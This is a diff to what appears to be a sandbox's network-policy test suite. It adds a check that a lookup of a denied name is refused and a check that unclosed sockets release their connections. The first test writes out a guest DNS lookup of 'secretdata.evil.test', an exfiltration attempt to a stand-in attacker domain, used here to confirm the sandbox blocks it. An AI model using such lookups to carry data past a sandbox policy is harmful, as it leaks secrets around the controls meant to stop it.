@@ -569,6 +569,29 @@ except ConnectionAbortedError as e:
          want=["the send timed out", "closed: [Errno", "may have had part of the value"],
          absent=[SECRET[3:]])
 
+    # A name a deny rule refuses is not looked up: the query would carry it
+    # (and what the guest put in it) to the denied domain's servers. It was
+    # until 2026-12-07 (then a gaierror, the lookup having failed).
+    case("a denied name is not looked up", ["--allow-net", "*", "--deny-net", "*.evil.test"], """
+import socket
+try:
+    socket.getaddrinfo("secretdata.evil.test", 443)
+except PermissionError as e:
+    print("refused:", e)
+""", want=['refused: [Errno', 'secretdata.evil.test:443 is refused by the deny rule "*.evil.test"'])
+
+    # A socket dropped without close() was never collected (the table of
+    # descriptors held it): the eleventh connection of this loop failed
+    # with "too many connections" until 2026-12-07.
+    case("sockets dropped unclosed give their connections back",
+         ["--allow-net", f"127.0.0.1:{P['echo']}", "--max-connections", "3"], f"""
+import socket
+for i in range(12):
+    s = socket.create_connection(("127.0.0.1", {P['echo']}))
+    s.sendall(b"ping"); assert s.recv(4) == b"ping"
+print("12 connections, 3 at once")
+""", want=["12 connections, 3 at once"])
+
     case("the name TLS sends is checked against the policy too", tls + ["--deny-net", "denied.eryx"],
          f"""
 import socket, ssl
